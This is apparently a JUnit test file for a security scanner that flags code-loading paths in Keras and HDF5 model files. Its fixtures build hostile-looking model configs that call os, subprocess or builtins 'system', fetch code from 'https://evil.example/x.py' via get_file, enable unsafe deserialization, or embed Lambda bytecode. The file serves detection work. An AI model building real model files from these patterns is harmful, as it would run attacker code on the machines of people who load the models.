package org.mlsec.scan;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Issue 19: every code-loading path of Keras v3 configs and HDF5 model configs is a finding. */
class KerasCodeLoadingTest {
    @TempDir
    Path dir;

    static String layer(String cls, String module, String config) {
        return "{\"module\": \"" + module + "\", \"class_name\": \"" + cls + "\", \"config\": " + config
                + ", \"registered_name\": null}";
    }

    static String model(String... layers) {
        return "{\"module\": \"keras\", \"class_name\": \"Sequential\", \"config\": {\"name\": \"s\", \"layers\": ["
                + String.join(", ", layers) + "]}}";
    }

    ScanReport keras(String config, String... extra) throws IOException {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        try (ZipOutputStream z = new ZipOutputStream(b)) {
            z.putNextEntry(new ZipEntry("metadata.json"));
            z.write("{\"keras_version\": \"3.8.0\"}".getBytes(StandardCharsets.UTF_8));
            z.putNextEntry(new ZipEntry("config.json"));
            z.write(config.getBytes(StandardCharsets.UTF_8));
            z.putNextEntry(new ZipEntry("model.weights.h5"));
            z.write(Files.readAllBytes(HdfStructureTest.FIXTURES.resolve("benign.h5"))); // a real HDF5 file, by h5py
            for (String e : extra) {
                z.putNextEntry(new ZipEntry(e));
                z.write("import os\n".getBytes(StandardCharsets.UTF_8));
            }
        }
        Path f = dir.resolve("m.keras");
        Files.write(f, b.toByteArray());
        return ModelScanner.scan(List.of(f));
    }

    static boolean atLeastHigh(ScanReport r) {
        return r.findings().stream().anyMatch(f -> f.severity().compareTo(Severity.HIGH) >= 0);
    }

    @Test
    void aPlainKerasModelIsClean() throws IOException {
        ScanReport r = keras(model(layer("Dense", "keras.layers", "{\"name\": \"d\", \"units\": 2}")));
        assertEquals(List.of(), r.findings());
        assertEquals(ScanReport.CLEAN, r.exitCode(), r.skipped().toString());
    }

    @ParameterizedTest
    @ValueSource(strings = {"os", "builtins", "subprocess", "posix"})
    void modulesThatRunCodeAreCritical(String module) throws IOException {
        ScanReport r = keras(model(layer("system", module, "{\"name\": \"x\"}")));
        assertTrue(r.findings().stream().anyMatch(f -> f.severity() == Severity.CRITICAL), r.findings().toString());
        String fn = "{\"module\": \"keras.layers\", \"class_name\": \"Activation\", \"config\": {\"name\": \"a\","
                + " \"activation\": {\"module\": \"keras.src\", \"class_name\": \"function\", \"config\": \"system\","
                + " \"fn_module\": \"" + module + "\"}}}";
        assertTrue(keras(model(fn)).findings().stream().anyMatch(f -> f.severity() == Severity.CRITICAL), "fn_module");
    }

    @Test
    void torchModuleWrapperGetFileUnsafeModeLambdaAndExtraFilesAreFound() throws IOException {
        assertTrue(atLeastHigh(keras(model(layer("TorchModuleWrapper", "keras.layers", "{\"name\": \"t\","
                + " \"module\": \"gASV...\"}")))), "CVE-2025-49655");
        assertTrue(atLeastHigh(keras(model("{\"module\": \"keras.utils\", \"class_name\": \"function\","
                + " \"config\": \"get_file\", \"args\": [\"https://evil.example/x.py\"]}"))), "CVE-2025-8747");
        assertTrue(atLeastHigh(keras(model(layer("function", "keras.config", "\"enable_unsafe_deserialization\"")))),
                "CVE-2025-9906");
        assertTrue(atLeastHigh(keras(model(layer("Lambda", "keras.layers", "{\"name\": \"l\"}")))), "Lambda");
        assertTrue(atLeastHigh(keras(model(layer("Dense", "keras.layers", "{\"name\": \"d\"}")), "assets/run.py")),
                "an extra executable file");
    }

    @Test
    void aDeepChainOfGetFileCallsIsReadOnceNotOncePerLevel() throws IOException {
        // 900 nested get_file calls over a 1 MB argument: each level used to serialise its subtree and match it with
        // a leading .*, about a gigabyte of work; now each node is read once
        int depth = 900;
        StringBuilder b = new StringBuilder();
        for (int i = 0; i < depth; i++) {
            b.append("{\"class_name\": \"function\", \"config\": \"get_file\", \"args\": ");
        }
        b.append("\"").append("x".repeat(1 << 20)).append(" HTTPS://evil.example/x.py\"");
        b.append("}".repeat(depth));
        ScanReport r = keras(b.toString());
        assertEquals(depth, r.findings().stream().filter(f -> f.description().contains("get_file with a URL")).count());
    }

    @ParameterizedTest
    @ValueSource(strings = {"\"class_name\": \"Lambda\"", "\"class_name\":\"Lambda\""})
    void hdf5LambdaLayersAreFoundWithOrWithoutSpaces(String lambda) throws IOException {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        b.writeBytes(new byte[] {(byte) 0x89, 'H', 'D', 'F', '\r', '\n', 0x1a, '\n'});
        b.writeBytes(new byte[200]);
        b.writeBytes(("{\"class_name\":\"Sequential\",\"config\":{\"layers\":[{" + lambda
                + ",\"config\":{\"name\":\"l\",\"function\":[\"4wEAAAAA\",null,null]}}]}}").getBytes(StandardCharsets.UTF_8));
        b.writeBytes(new byte[200]);
        Path f = dir.resolve("m.h5");
        Files.write(f, b.toByteArray());
        ScanReport r = ModelScanner.scan(List.of(f));
        assertTrue(r.findings().stream().anyMatch(x -> x.rule() == Rule.KERAS_LAMBDA), r.findings().toString());
        Path os = dir.resolve("os.h5");
        Files.write(os, new String(b.toByteArray(), StandardCharsets.ISO_8859_1).replace("Lambda\"", "Dense\",\"module\":\"os\"")
                .getBytes(StandardCharsets.ISO_8859_1));
        assertTrue(ModelScanner.scan(List.of(os)).findings().stream().anyMatch(x -> x.severity() == Severity.CRITICAL));
    }
}
